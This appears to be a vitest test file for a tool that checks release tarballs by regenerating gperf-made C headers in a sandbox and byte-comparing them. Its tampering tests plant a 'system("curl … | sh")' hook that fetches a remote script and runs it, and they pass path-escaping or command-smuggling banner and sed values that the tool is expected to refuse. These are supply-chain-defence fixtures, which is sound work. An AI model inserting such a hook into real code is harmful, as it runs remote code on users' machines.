/**
 * gperf outputs (src/regenerate/generators.ts gperfFinding): a C file/header whose banner says "code produced by
 * gperf version X" and "Command-line: gperf … NAME.gperf" used to be explained at low by that banner alone
 * (GENERATED_FROM_SOURCE). Now the system's gperf of version X runs in the sandbox with the banner's command line
 * on the tracked source, from the directory that command line implies, the tracked rule's literal sed edit applied
 * (gnutls' `$(GPERF) --global-table -t $^ > $@-tmp && sed 's/^const struct X/static const struct X/'
 * <$@-tmp >$@ && rm -f $@-tmp`, shortened), and the result is byte-compared.
 * The release tarball (GNU tar) ships what the real gperf made from the tracked inputs, as the maintainer's build
 * did. Needs gperf (scripts/install-system-deps.sh). Tampered twins — one line added, a table entry changed, another
 * edit than the rule's — are GENERATED_TOOL_MISMATCH (high; critical with a construct); another gperf version, a
 * banner naming --output-file or an absolute input, regeneration off: TARBALL_ONLY_UNEXPLAINED (high) saying why.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { formatFinding } from '../../src/core/codes.js';
import type { Finding } from '../../src/core/findings.js';
import { applyPostEdit, gnulibModuleSections, gnulibPathStrip, gperfBannerCommand, gperfChainEdits, gperfModuleEdits, gperfOutputOf, gperfRunInput } from '../../src/regenerate/generators.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';
import { CLI } from '../hostile/helpers.js';
import { gperfBuildSteps, gperfTreeVersion } from '../../src/regenerate/toolchain-git.js';
import { findingAt } from '../helpers/findings.js';

const root = tempDir('distdiff-gperf-');
const repoDir = join(root, 'repo');
const cache = join(root, 'cache');

const KW_GPERF = `%readonly-tables
%{
#include <string.h>
%}
struct kw_st { const char *name; int value; };
%%
alpha, 1
beta, 2
gamma, 3
delta, 4
%%
`;
const CODES_GPERF = 'red\ngreen\nblue\nyellow\n';
const LIB_AM = `BUILT_SOURCES = kw.h
EXTRA_DIST = kw.gperf

kw.h: $(srcdir)/kw.gperf
\t$(V_GPERF)$(GPERF) --global-table -t $^ > $@-tmp \\
\t&& sed 's/^const struct kw_st \\*/static const struct kw_st \\*/' <$@-tmp >$@ \\
\t&& rm -f $@-tmp
`;
const TRACKED: Record<string, string> = {
  README: 'demo\n',
  'lib/Makefile.am': LIB_AM,
  'lib/kw.gperf': KW_GPERF,
  'src/codes.gperf': CODES_GPERF,
  'src/main.c': 'int main(void) { return 0; }\n',
};

const MAC_GPERF = '/Applications/Dev.app/Contents/Developer/usr/bin/gperf';
const MAC_ROOT = '/Users/dev/src/demo';
/** src/codes.h as a Mac build wrote it (below: absolute program and input paths in its banner and #line directives). */
let mac = '';

/** What the maintainer's build wrote, made here by the real gperf (and the rule's sed). */
const made: Record<string, string> = {};
const run = (cwd: string, argv: string[]) => execFileSync(argv[0]!, argv.slice(1), { cwd, env: { PATH: '/usr/local/bin:/usr/bin:/bin', LC_ALL: 'C' }, stdio: ['ignore', 'pipe', 'pipe'] }).toString('latin1');
const gperfVersion = /^GNU gperf (\S+)/m.exec(execFileSync('gperf', ['--version']).toString())![1]!;

beforeAll(() => {
  const repo = makeRepo(repoDir);
  repo.commit(TRACKED);
  repo.tag('v1.0', { message: 'demo 1.0' });
  const work = join(root, 'work');
  writeFiles(work, TRACKED);
  // the rule's recipe, as make runs it in lib/ ($^ is kw.gperf: make drops the leading ./ of $(srcdir)/)
  writeFileSync(join(work, 'lib/kw.h-tmp'), run(join(work, 'lib'), ['gperf', '--global-table', '-t', 'kw.gperf']), 'latin1');
  made['lib/kw.h'] = run(join(work, 'lib'), ['sed', 's/^const struct kw_st \\*/static const struct kw_st \\*/', 'kw.h-tmp']);
  // no rule: gnulib's iconv_open-*.h shape, run from src/ as `gperf -m 10 ./codes.gperf`
  made['src/codes.h'] = run(join(work, 'src'), ['gperf', '-m', '10', './codes.gperf']);
  // a maintainer's Mac (bison 3.8.2's iconv_open-*.h): gperf at an absolute program path run on the absolute input —
  // made here by the real gperf under bubblewrap, the work tree and gperf mounted at those paths
  const gperfBin = execFileSync('sh', ['-c', 'command -v gperf'], { env: { PATH: '/usr/local/bin:/usr/bin:/bin' } }).toString().trim();
  mac = execFileSync('bwrap', [
    '--ro-bind', '/usr', '/usr', '--symlink', 'usr/lib', '/lib', '--symlink', 'usr/lib64', '/lib64', '--symlink', 'usr/bin', '/bin',
    '--ro-bind-try', '/etc/ld.so.cache', '/etc/ld.so.cache', '--ro-bind', gperfBin, MAC_GPERF, '--ro-bind', work, MAC_ROOT,
    '--unshare-all', '--chdir', MAC_ROOT, '--clearenv', '--setenv', 'LC_ALL', 'C', MAC_GPERF, '-m', '10', `${MAC_ROOT}/src/codes.gperf`,
  ]).toString('latin1');
}, 120_000);

let n = 0;
function release(changes: Record<string, string> = {}): string {
  const dir = join(root, `r${++n}`, 'demo-1.0');
  for (const [p, c] of Object.entries({ ...TRACKED, ...made, ...changes })) {
    mkdirSync(join(dir, p, '..'), { recursive: true });
    writeFileSync(join(dir, p), c, 'latin1');
  }
  return makeTar(dir, { compress: 'gzip', out: join(root, `r${n}`, 'demo-1.0.tar.gz') });
}
const findingsOf = async (tar: string, regenerate: 'auto' | 'off' = 'auto', cacheDir = cache) => {
  const r = await verify({ tarball: tar, repo: repoDir, tag: 'v1.0', cacheDir, regenerate });
  const at = (p: string) => findingAt(r.findings, p);
  return { r, at };
};

describe("gperf's banner command line", () => {
  const head = (line: string) => `/* ANSI-C code produced by gperf version 3.1 */\n/* Command-line: ${line}  */\n`;
  it('reads the options and the input, the run directory from where the source is', () => {
    expect(gperfBannerCommand(head('gperf -m 10 ./iconv_open-aix.gperf'), 'lib/iconv_open-aix.gperf')).toEqual({ args: ['-m', '10', './iconv_open-aix.gperf'], cwd: 'lib', line: 'gperf -m 10 ./iconv_open-aix.gperf' });
    expect(gperfBannerCommand(head('gperf -m 10 ./lib/iconv_open-aix.gperf'), 'lib/iconv_open-aix.gperf')).toMatchObject({ cwd: '' });
    // gperf's own quoting of a shell character (parted 3.5's `-k '*'`; -k'1,$' and --key-positions='*' as gperf 3.1 writes them)
    expect(gperfBannerCommand(head("gperf -C -N pt_limit_lookup -n -t -s 6 -k '*' --language=ANSI-C pt-limit.gperf"), 'libparted/labels/pt-limit.gperf')).toMatchObject({ args: ['-C', '-N', 'pt_limit_lookup', '-n', '-t', '-s', '6', '-k', '*', '--language=ANSI-C', 'pt-limit.gperf'], cwd: 'libparted/labels' });
    expect(gperfBannerCommand(head("gperf -t -k'1,$' t.gperf"), 't.gperf')).toMatchObject({ args: ['-t', '-k1,$', 't.gperf'] });
    expect(gperfBannerCommand(head("gperf -t --key-positions='*' t.gperf"), 't.gperf')).toMatchObject({ args: ['-t', '--key-positions=*', 't.gperf'] });
    // a quote left open, or a quoted value with a character gperf's values never have, is refused
    expect(gperfBannerCommand(head("gperf -t -k '* t.gperf"), 't.gperf')).toHaveProperty('refused');
    expect(gperfBannerCommand(head("gperf -t -k '$(x)' t.gperf"), 't.gperf')).toHaveProperty('refused');
    expect(gperfBannerCommand(head('gperf -m 10 unicase/special-casing-table.gperf'), 'lib/unicase/special-casing-table.gperf')).toMatchObject({ cwd: 'lib' });
    expect(gperfBannerCommand(head('gperf --global-table -t -k1,3,$ -N lookup x.gperf'), 'x.gperf')).toMatchObject({ cwd: '', args: ['--global-table', '-t', '-k1,3,$', '-N', 'lookup', 'x.gperf'] });
  });
  it('refuses another program, an option writing or reading elsewhere, an absolute or .. input, another file name', () => {
    // a packaged gperf's own path (configure's AC_PATH_PROG: tinyproxy 1.11.1) is the system's gperf run by that path, never
    // mounted; any other program under a system directory is refused
    expect(gperfBannerCommand(head('/usr/bin/gperf -m 10 ./x.gperf'), 'lib/x.gperf')).toEqual({ args: ['-m', '10', './x.gperf'], cwd: 'lib', line: '/usr/bin/gperf -m 10 ./x.gperf', program: '/usr/bin/gperf', systemProgram: true });
    expect(gperfBannerCommand(head('/usr/bin/sh -m 10 ./x.gperf'), 'lib/x.gperf')).toHaveProperty('refused');
    expect(gperfBannerCommand(head('/usr/lib/x/gperf -m 10 ./x.gperf'), 'lib/x.gperf')).toHaveProperty('refused');
    expect(gperfBannerCommand(head('gperf --output-file=../../evil.h x.gperf'), 'x.gperf')).toHaveProperty('refused');
    expect(gperfBannerCommand(head('gperf -m 10 ../lib/x.gperf'), 'lib/x.gperf')).toHaveProperty('refused');
    expect(gperfBannerCommand(head('gperf -m 10 ./y.gperf'), 'lib/x.gperf')).toHaveProperty('refused');
    expect(gperfBannerCommand(head('gperf -m 10 ./sub/x.gperf'), 'lib/x.gperf')).toHaveProperty('refused');
    expect(gperfBannerCommand(head('gperf --unknown-option x.gperf'), 'x.gperf')).toHaveProperty('refused');
    expect(gperfBannerCommand(head('gperf -m 10 x.gperf other.gperf'), 'x.gperf')).toHaveProperty('refused');
  });
  it("reads a maintainer's absolute paths (a macOS build) as a root to mount the tree at and a gperf to mount; refuses system directories and paths that do not end with the source", () => {
    const xcode = '/Applications/Xcode.app/Contents/Developer/Toolchains/XcodeDefault.xctoolchain/usr/bin/gperf';
    expect(gperfBannerCommand(head(`${xcode} -m 10 /Users/akim/src/gnu/bison/lib/x.gperf`), 'lib/x.gperf')).toEqual({
      args: ['-m', '10', '/Users/akim/src/gnu/bison/lib/x.gperf'],
      cwd: '',
      line: `${xcode} -m 10 /Users/akim/src/gnu/bison/lib/x.gperf`,
      root: '/Users/akim/src/gnu/bison',
      program: xcode,
    });
    expect(gperfBannerCommand(head('gperf -m 10 /Users/akim/src/gnu/bison/lib/x.gperf'), 'lib/x.gperf')).toMatchObject({ root: '/Users/akim/src/gnu/bison' });
    expect(gperfBannerCommand(head('/Applications/X.app/bin/gperf -m 10 ./x.gperf'), 'lib/x.gperf')).toMatchObject({ cwd: 'lib', program: '/Applications/X.app/bin/gperf' });
    // a program that is not gperf, a system directory (the sandbox's own /usr, /tmp, /home …), a root of one segment,
    // a path that is not the source's, a program inside the mounted tree
    expect(gperfBannerCommand(head('/Applications/X.app/bin/sh -m 10 ./x.gperf'), 'lib/x.gperf')).toHaveProperty('refused');
    expect(gperfBannerCommand(head('gperf -m 10 /tmp/build/lib/x.gperf'), 'lib/x.gperf')).toHaveProperty('refused');
    expect(gperfBannerCommand(head('gperf -m 10 /home/u/src/lib/x.gperf'), 'lib/x.gperf')).toHaveProperty('refused');
    expect(gperfBannerCommand(head('gperf -m 10 /usr/src/p/lib/x.gperf'), 'lib/x.gperf')).toHaveProperty('refused');
    expect(gperfBannerCommand(head('gperf -m 10 /src/lib/x.gperf'), 'lib/x.gperf')).toHaveProperty('refused');
    expect(gperfBannerCommand(head('gperf -m 10 /Users/a/src/other/x.gperf'), 'lib/x.gperf')).toHaveProperty('refused');
    expect(gperfBannerCommand(head('gperf -m 10 /Users/a/src/../lib/x.gperf'), 'lib/x.gperf')).toHaveProperty('refused');
    expect(gperfBannerCommand(head('/Users/a/src/lib/gperf -m 10 /Users/a/src/lib/x.gperf'), 'lib/x.gperf')).toHaveProperty('refused');
  });
  it("reads gnulib's module recipes: the anchored sed, the path-normalising sed, mv and rm; refuses anything else", () => {
    const strip = `s|\\([ "]\\)[^ "]*/unictype/categ_byname\\.gperf\\([ "]\\)|\\1unictype/categ_byname.gperf\\2|`;
    expect(gnulibPathStrip(strip)).toBe('unictype/categ_byname.gperf');
    expect(gnulibPathStrip(strip.replace('\\1unictype', '\\1other'))).toBeUndefined();
    const run = `gperf -m 10 ./unictype/categ_byname.gperf > ./unictype/categ_byname.h-t1 && sed -e 's/^const/static const/' -e '${strip}' < ./unictype/categ_byname.h-t1 > ./unictype/categ_byname.h-t2 && rm -f ./unictype/categ_byname.h-t1 && mv ./unictype/categ_byname.h-t2 ./unictype/categ_byname.h`;
    const edits = gperfChainEdits(run, 'unictype/categ_byname.h', 'lib/unictype/categ_byname.h')!;
    expect(edits.map((e) => [e.from, e.to, e.anchored ?? false, e.pathPrefix ?? false])).toEqual([
      ['const', 'static const', true, false],
      ['unictype/categ_byname.gperf', 'unictype/categ_byname.gperf', false, true],
    ]);
    let text = '/* Command-line: gperf -m 10 /home/u/gl/lib/unictype/categ_byname.gperf  */\nconst struct x *\n#line 1 "./unictype/categ_byname.gperf"';
    for (const e of edits) text = applyPostEdit(text, e);
    expect(text).toBe('/* Command-line: gperf -m 10 unictype/categ_byname.gperf  */\nstatic const struct x *\n#line 1 "unictype/categ_byname.gperf"');
    // an edit that is code, another command, a chain that never reaches the target
    expect(gperfChainEdits(run.replace("'s/^const/static const/'", "'s/^const/system(X); const/;e'"), 'unictype/categ_byname.h', 'x')).toBeUndefined();
    expect(gperfChainEdits(run.replace('rm -f ./unictype/categ_byname.h-t1', 'sh ./fix.sh'), 'unictype/categ_byname.h', 'x')).toBeUndefined();
    expect(gperfChainEdits(run.replace(/ && mv .*$/, ''), 'unictype/categ_byname.h', 'x')).toBeUndefined();
    expect(gperfChainEdits('gperf -m 10 ./x.gperf > ./x.h-t && mv ./x.h-t ./x.h', 'x.h', 'x.h')).toEqual([]);
  });
  it("reads parted 3.5's pipe through perl inserting a literal line before each line holding a literal word; refuses any other perl", () => {
    const run = `gperf -C -N pt_limit_lookup -n -t -s 6 -k '*' --language=ANSI-C pt-limit.gperf | perl -ne '/__GNUC_STDC_INLINE__/ and print "static\\n"; print' > pt-limit.c-tmp && mv pt-limit.c-tmp pt-limit.c`;
    const edits = gperfChainEdits(run, 'pt-limit.c', 'libparted/labels/pt-limit.c')!;
    expect(edits.map((e) => [e.from, e.to, e.insertBefore ?? false])).toEqual([['__GNUC_STDC_INLINE__', 'static', true]]);
    expect(applyPostEdit('#ifdef __GNUC__\n__inline\n#ifdef __GNUC_STDC_INLINE__\n__attribute__ ((__gnu_inline__))\n#endif\n', edits[0]!)).toBe('#ifdef __GNUC__\n__inline\nstatic\n#ifdef __GNUC_STDC_INLINE__\n__attribute__ ((__gnu_inline__))\n#endif\n');
    // a perl that does something else, or prints a line that is not a plain word, is no such edit
    expect(gperfChainEdits(run.replace('print "static\\n"', 'system "sh x"'), 'pt-limit.c', 'x')).toBeUndefined();
    expect(gperfChainEdits(run.replace('print "static\\n"', 'print "static; x()\\n"'), 'pt-limit.c', 'x')).toBeUndefined();
  });
  it("reads a gnulib module file's Makefile.am: section (its header has a dot) for the output's rule", () => {
    const mod = `Description:\nA table.\n\nFiles:\nlib/uni/tab.gperf\n\nDepends-on:\ngperf\n\nMakefile.am:\nif X\nlib_SOURCES += uni/tab.c\nendif\n\n$(srcdir)/uni/tab.h: $(srcdir)/uni/tab.gperf\n\t$(V_GPERF)$(GPERF) -m 1 $(srcdir)/uni/tab.gperf > $(srcdir)/uni/tab.h-t1 \\\n\t&& sed -e 's/^const/static const/' \\\n\t       < $(srcdir)/uni/tab.h-t1 > $(srcdir)/uni/tab.h-t2 \\\n\t&& rm -f $(srcdir)/uni/tab.h-t1 \\\n\t&& mv $(srcdir)/uni/tab.h-t2 $(srcdir)/uni/tab.h\nBUILT_SOURCES += uni/tab.h\n\nInclude:\n"uninorm.h"\n`;
    const sections = gnulibModuleSections(mod);
    expect(sections.get('Files')).toContain('lib/uni/tab.gperf');
    const read = gperfModuleEdits(sections.get('Makefile.am')!, 'uni/tab.h', 'gl/uni/tab.h');
    expect(read && 'edits' in read && read.edits.map((e) => [e.from, e.to, e.anchored, e.file])).toEqual([['const', 'static const', true, 'gl/uni/tab.h']]);
    expect(gperfModuleEdits(sections.get('Makefile.am')!, 'uni/other.h', 'gl/uni/other.h')).toBeUndefined();
    // a recipe running something else after gperf: refused, named
    expect(gperfModuleEdits(sections.get('Makefile.am')!.replace('&& rm -f', '&& ./fix.sh'), 'uni/tab.h', 'gl/uni/tab.h')).toHaveProperty('refused');
  });
  it('red team 17: an output is its input’s — the rule’s gperf input by name, else X.h/X.c beside X.gperf', () => {
    expect(gperfRunInput('gperf --global-table -t kw.gperf > kw.h-tmp && sed s/a/b/ <kw.h-tmp >kw.h')).toBe('kw.gperf');
    expect(gperfRunInput('gperf -m 10 ./lib/iconv_open-aix.gperf > ./lib/iconv_open-aix.h-t && mv ./lib/iconv_open-aix.h-t ./lib/iconv_open-aix.h')).toBe('iconv_open-aix.gperf');
    expect(gperfRunInput('gperf -m 10 < x.gperf')).toBe('x.gperf');
    expect(gperfOutputOf('lib/iconv_open-aix.h', 'lib/iconv_open-aix.gperf', undefined)).toBe(true);
    expect(gperfOutputOf('lib/iconv_open-aix.h', 'lib/iconv_open-hpux.gperf', undefined)).toBe(false);
    expect(gperfOutputOf('lib/x/iconv_open-aix.h', 'lib/iconv_open-aix.gperf', undefined)).toBe(false);
    expect(gperfOutputOf('lib/kw-table.h', 'lib/kw.gperf', 'kw.gperf')).toBe(true);
    expect(gperfOutputOf('lib/kw.h', 'lib/kw.gperf', 'other.gperf')).toBe(false);
  });

  it('an anchored sed edit touches only lines beginning with the text', () => {
    expect(applyPostEdit('const struct a *\nx const struct a *', { command: '', file: '', from: 'const struct a *', to: 'static const struct a *', global: false, anchored: true })).toBe('static const struct a *\nx const struct a *');
  });
});

describe('gperf outputs proved by the system gperf in the sandbox', () => {
  it('the fixture: the sed made the lookup function static, the banner records the command line', () => {
    expect(made['lib/kw.h']).toContain('\nstatic const struct kw_st *\n');
    expect(made['lib/kw.h']).toContain(`/* ANSI-C code produced by gperf version ${gperfVersion} */`);
    expect(made['src/codes.h']).toContain('/* Command-line: gperf -m 10 ./codes.gperf  */');
  });

  it('both outputs reproduced: GENERATED_TOOL_PROVED (info), the rule and its sed edit named; nothing high', async () => {
    const { r, at } = await findingsOf(release());
    const kw = at('lib/kw.h');
    expect(kw).toMatchObject({
      code: 'GENERATED_TOOL_PROVED',
      severity: 'info',
      evidence: { tool: 'gperf', version: gperfVersion, source: 'lib/kw.gperf', rule: 'lib/Makefile.am', fromBanner: true, command: ['gperf', '--global-table', '-t', 'kw.gperf'], cwd: 'lib' },
    });
    expect((kw.evidence as { postEdits: string[] }).postEdits).toEqual(["sed 's/^const struct kw_st \\*/static const struct kw_st \\*/' <kw.h-tmp >kw.h"]);
    const codes = at('src/codes.h');
    expect(codes).toMatchObject({ code: 'GENERATED_TOOL_PROVED', severity: 'info', evidence: { tool: 'gperf', source: 'src/codes.gperf', command: ['gperf', '-m', '10', './codes.gperf'], cwd: 'src', postEdits: [] } });
    expect(formatFinding(codes)).toContain(`reproduced by the system's gperf ${gperfVersion} from src/codes.gperf`);
    expect(formatFinding(codes)).toContain('the command line its banner records');
    expect(r.findings.filter((f) => f.severity === 'high' || f.severity === 'critical')).toEqual([]);
  }, 240_000);

  it('tampered twins with the banner intact: one added line (critical), a changed table entry (high)', async () => {
    const evil = made['src/codes.h']!.replace('/* maximum key range', 'static int hook = system("curl -s http://203.0.113.9/x | sh");\n/* maximum key range');
    const entry = made['lib/kw.h']!.replace('{"gamma", 3}', '{"gamma", 7}');
    expect(evil).not.toBe(made['src/codes.h']);
    expect(entry).not.toBe(made['lib/kw.h']);
    const { r, at } = await findingsOf(release({ 'src/codes.h': evil, 'lib/kw.h': entry }));
    const c = at('src/codes.h');
    expect(c).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'critical', evidence: { tool: 'gperf', differingLines: 1 } });
    if (c.diff?.kind !== 'text') throw new Error('no text diff');
    expect(c.diff.unified).toContain('+static int hook = system("curl -s http://203.0.113.9/x | sh");');
    expect(at('lib/kw.h')).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'high', evidence: { tool: 'gperf', differingLines: 1 } });
    expect(r.verdict).toBe('different');
  }, 240_000);

  it("gperf's output shipped without the rule's sed edit is gperf's output all the same: proved with no edit; anything else added is not", async () => {
    const unedited = made['lib/kw.h']!.replace('\nstatic const struct kw_st *\n', '\nconst struct kw_st *\n');
    expect(unedited).not.toBe(made['lib/kw.h']);
    const { at } = await findingsOf(release({ 'lib/kw.h': unedited }));
    expect(at('lib/kw.h')).toMatchObject({ code: 'GENERATED_TOOL_PROVED', evidence: { tool: 'gperf', postEdits: [] } });
    // its tampered twin (gettext 0.23.1's gperf32-line shape): one added line below gperf's raw output is one differing line
    const evil = unedited.replace('/* maximum key range', 'static int hook = system("curl -s http://203.0.113.9/x | sh");\n/* maximum key range');
    expect(evil).not.toBe(unedited);
    const { at: atEvil } = await findingsOf(release({ 'lib/kw.h': evil }));
    expect(atEvil('lib/kw.h')).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'critical', evidence: { differingLines: 1, postEdits: [] } });
    // another edit than the rule's: the diff is against the rule's output
    const other = made['lib/kw.h']!.replace('\nstatic const struct kw_st *\n', '\nextern const struct kw_st *\n');
    const { at: at2 } = await findingsOf(release({ 'lib/kw.h': other }));
    const f = at2('lib/kw.h');
    expect(f).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'high', evidence: { differingLines: 1 } });
    if (f.diff?.kind !== 'text') throw new Error('no text diff');
    expect(f.diff.unified).toContain('-static const struct kw_st *');
  }, 240_000);

  it('another gperf version named: proved only when identical but for that version number; a banner that is not run: high', async () => {
    const other = made['src/codes.h']!.replace(`gperf version ${gperfVersion}`, 'gperf version 3.0.3');
    const out = made['lib/kw.h']!.replace('Command-line: gperf --global-table -t kw.gperf', 'Command-line: gperf --output-file=../x.h --global-table -t kw.gperf');
    expect(other).not.toBe(made['src/codes.h']);
    expect(out).not.toBe(made['lib/kw.h']);
    const { at } = await findingsOf(release({ 'src/codes.h': other, 'lib/kw.h': out }));
    const f = at('src/codes.h');
    expect(f).toMatchObject({ code: 'GENERATED_TOOL_PROVED', severity: 'info', evidence: { tool: 'gperf', version: gperfVersion, bannerVersion: '3.0.3' } });
    expect(formatFinding(f)).toContain('(the file names 3.0.3: identical but for that version number in its first line)');
    expect(at('lib/kw.h')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'banner-unsupported', tool: 'gperf', command: 'gperf --output-file=../x.h --global-table -t kw.gperf' } } });
  }, 240_000);

  it('tampered twin under another version: one added line below a 3.0.3 banner stays high, saying which version each has', async () => {
    const other = made['src/codes.h']!.replace(`gperf version ${gperfVersion}`, 'gperf version 3.0.3').replace('/* maximum key range', 'static int hook = system("curl -s http://203.0.113.9/x | sh");\n/* maximum key range');
    expect(other).toContain('static int hook');
    const { r, at } = await findingsOf(release({ 'src/codes.h': other }));
    const f = at('src/codes.h');
    expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'version-unavailable', tool: 'gperf', wanted: '3.0.3', available: gperfVersion } } });
    expect(formatFinding(f)).toContain(`gperf ${gperfVersion} here, the file names 3.0.3`);
    expect(r.verdict).toBe('different');
  }, 240_000);

  it('red team 17: gperf output of another tracked .gperf than the file’s own proves nothing about it (high)', async () => {
    // src/codes.h's bytes shipped as a new src/colors.h (no rule, not colors.gperf's), and as lib/kw.h, whose tracked
    // rule runs gperf on kw.gperf: each is exactly what gperf makes of src/codes.gperf, but not of its own input
    const { r, at } = await findingsOf(release({ 'src/colors.h': made['src/codes.h']!, 'lib/kw.h': made['src/codes.h']! }));
    expect(at('src/codes.h')).toMatchObject({ code: 'GENERATED_TOOL_PROVED', severity: 'info' });
    const colors = at('src/colors.h');
    expect(colors).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'input-mismatch', tool: 'gperf', fragment: 'src/codes.gperf' } } });
    expect(formatFinding(colors)).toContain('its banner names src/codes.gperf, which is not this file');
    const kw = at('lib/kw.h');
    expect(kw).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'input-mismatch', tool: 'gperf', fragment: 'src/codes.gperf' } } });
    expect(formatFinding(kw)).toContain('the rule writing it runs');
    expect(r.verdict).toBe('different');
  }, 240_000);
  it("a banner recording a Mac's absolute paths: replayed with the tree and gperf mounted there — proved; one changed line: high", async () => {
    expect(mac).toContain(`/* Command-line: ${MAC_GPERF} -m 10 ${MAC_ROOT}/src/codes.gperf  */`);
    const { at } = await findingsOf(release({ 'src/codes.h': mac }));
    const f = at('src/codes.h');
    expect(f).toMatchObject({
      code: 'GENERATED_TOOL_PROVED',
      severity: 'info',
      evidence: { tool: 'gperf', version: gperfVersion, source: 'src/codes.gperf', command: [MAC_GPERF, '-m', '10', `${MAC_ROOT}/src/codes.gperf`], cwd: MAC_ROOT, absolutePaths: { program: MAC_GPERF, root: MAC_ROOT } },
    });
    expect(formatFinding(f)).toContain('at the absolute paths its banner records');
    // the tampered twin: one table entry changed under the intact banner
    const twin = mac!.replace(/"yellow"/, '"purple"');
    expect(twin).not.toBe(mac);
    const { at: at2 } = await findingsOf(release({ 'src/codes.h': twin }));
    expect(at2('src/codes.h')).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'high', evidence: { tool: 'gperf', differingLines: 1, absolutePaths: { root: MAC_ROOT } } });
    // the same output claiming a system directory as its tree: not replayed, high
    const tmp = mac!.split(MAC_ROOT).join('/tmp/demo');
    const { at: at3 } = await findingsOf(release({ 'src/codes.h': tmp }));
    expect(at3('src/codes.h')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'banner-unsupported', tool: 'gperf' } } });
  }, 360_000);

  it("a banner naming the packaged gperf's path (`/usr/bin/gperf`, as configure's AC_PATH_PROG finds it): run by that path — proved; one changed line: high", async () => {
    const gperfBin = execFileSync('sh', ['-c', 'command -v gperf'], { env: { PATH: '/usr/local/bin:/usr/bin:/bin' } }).toString().trim();
    expect(['/usr/bin/gperf', '/usr/local/bin/gperf']).toContain(gperfBin);
    const byPath = run(join(root, 'work', 'src'), [gperfBin, '-m', '10', './codes.gperf']);
    expect(byPath).toContain(`/* Command-line: ${gperfBin} -m 10 ./codes.gperf  */`);
    const { at } = await findingsOf(release({ 'src/codes.h': byPath }));
    expect(at('src/codes.h')).toMatchObject({ code: 'GENERATED_TOOL_PROVED', severity: 'info', evidence: { tool: 'gperf', version: gperfVersion, source: 'src/codes.gperf', command: [gperfBin, '-m', '10', './codes.gperf'], cwd: 'src' } });
    const twin = byPath.replace(/"yellow"/, '"purple"');
    expect(twin).not.toBe(byPath);
    const { at: at2 } = await findingsOf(release({ 'src/codes.h': twin }));
    expect(at2('src/codes.h')).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'high', evidence: { tool: 'gperf', differingLines: 1 } });
  }, 360_000);
  it('regeneration off: nothing run, the outputs stay high saying so', async () => {
    const { at } = await findingsOf(release(), 'off');
    expect(at('src/codes.h')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'regeneration-off', tool: 'gperf' } } });
  }, 240_000);
});

// GNU gperf's own repository (fetched into the evaluation mirror; scripts/evaluate-toolchains.tsv): the real gperf 3.2,
// built by `distdiff toolchain add --git` in the sandbox. Without the mirror this block is skipped.
const GPERF_REPO = '/work/.mirror/gnu-mirror-unofficial+gperf/repo';
// Not a silent skip: the run says what is missing and how to get it (the mirror is fetched for scripts/evaluate).
if (!existsSync(GPERF_REPO)) {
  process.stderr.write(`\n*** SKIPPED (loudly): test/regenerate/gperf.test.ts "gperf 3.2 built from its release commit" needs GNU gperf's git\n*** repository at ${GPERF_REPO} (fetch github:gnu-mirror-unofficial/gperf, as scripts/evaluate-toolchains.tsv does);\n*** without it the gperf 3.2 toolchain build is not exercised in this run.\n\n`);
}
describe('gperf toolchains: the banner\'s version, built from git', () => {
  it('reads the version from src/version.cc; the build steps make configure only when the tree has none', () => {
    expect(gperfTreeVersion('#include "version.h"\n\n/* Current release version.  */\nconst char *version_string = "3.0.3";\n')).toBe('3.0.3');
    expect(gperfTreeVersion('const char *version_string = VERSION;\n')).toBeUndefined();
    expect(gperfBuildSteps(true, '/p')).toEqual(["./configure --prefix='/p'", '(cd lib && make)', '(cd src && make)', '(cd src && make install)']);
    expect(gperfBuildSteps(false, '/p').slice(1, 3)).toEqual(['make -f Makefile.devel all', "./configure --prefix='/p'"]);
  });

  it.skipIf(!existsSync(GPERF_REPO))('gperf 3.2 built from its release commit proves a 3.2 output exactly (no bannerVersion); one changed line under the 3.2 banner: high mismatch, not "unavailable"', async () => {
    const cache32 = join(root, 'cache32');
    const cli = (args: string[]) => spawnSync(process.execPath, [CLI, ...args], { encoding: 'utf8', timeout: 900_000 });
    // the revision's tree says 3.2: asking for another version is refused (exit 2), nothing built
    const wrong = cli(['toolchain', 'add', '--git', GPERF_REPO, '--version', '3.1', '--rev', '6d53a2d', '--cache-dir', cache32]);
    expect(wrong.status).toBe(2);
    expect(wrong.stderr).toContain('is gperf 3.2 (src/version.cc), not 3.1');
    const built = cli(['toolchain', 'add', '--git', GPERF_REPO, '--version', '3.2', '--rev', '6d53a2d', '--cache-dir', cache32]);
    expect(built.stderr).toBe('');
    expect(built.status).toBe(0);
    const prefix = join(cache32, 'toolchains', 'gperf-3.2-6d53a2dbe0ad');
    expect(built.stdout).toContain(`built: gperf 3.2 in ${prefix}`);
    // the maintainer's run, as gnulib's rule makes it (argv[0] gperf, in src/)
    const work = join(root, 'work');
    const made32 = spawnSync(join(prefix, 'bin', 'gperf'), ['-m', '10', './codes.gperf'], { cwd: join(work, 'src'), argv0: 'gperf', env: { LC_ALL: 'C' } });
    expect(made32.status).toBe(0);
    const out = made32.stdout.toString('latin1');
    expect(out).toContain('/* ANSI-C code produced by gperf version 3.2 */');
    const { at } = await findingsOf(release({ 'src/codes.h': out }), 'auto', cache32);
    const f = at('src/codes.h');
